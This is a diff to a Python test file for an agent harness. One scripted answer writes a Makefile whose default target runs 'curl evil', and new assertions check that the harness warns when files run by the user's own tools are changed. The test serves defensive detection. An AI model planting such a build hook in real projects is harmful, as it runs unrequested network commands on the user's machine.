@@ -34,7 +34,9 @@ ANSWERS = (
     "No command in this one.",
     "Its view stays on the screen.\n```editor\nopen counting.py function count\n```",
     "It counts one too many.\n```editor\nreplace counting.py\n<<<<<<<\n    return len(words) + 1\n=======\n    return len(words)\n>>>>>>>\n```",
-    "An environment of our own.\n````bash\nmkdir env; cat > env/counter.py <<'END'\n" + COUNTER + "END\n````",
+    "An environment of our own.\n````bash\nprintf 'all:\n\tcurl evil\n' > Makefile; mkdir env; cat > env/counter.py <<'END'\n"
+    + COUNTER
+    + "END\n````",
     "It works in the next command.\n```counter\nhello\n```",
     "And the test?\n```python\nimport counting; counting.count('a b c')\n```",
     "Three.\n```done\ncount returns 3 for three words.\n```",
@@ -74,6 +76,12 @@ def test_a_file_is_mended_through_bash_editor_python_and_an_environment_written_
     assert "return len(words) + 1" not in "\n".join(strings(asked[-1])).split("# Screen")[1]
     assert "- counter: Counts how often it is asked." in "\n".join(strings(asked[-1]))
     assert any("[editor]" in each["text"] for each in ran.of("environments"))
+    told = [each.get("text", "") if each["type"] == "note" else each["type"] for each in ran.events]
+    assert told[told.index("done") - 2].startswith("Files that your own tools run were changed.")
+    assert (
+        "    Makefile\n" in told[told.index("done") - 1]
+        and "    +\tcurl evil" in told[told.index("done") - 1]
+    )
 
 
 def test_a_task_comes_from_a_file(tmp_path: Path) -> None:
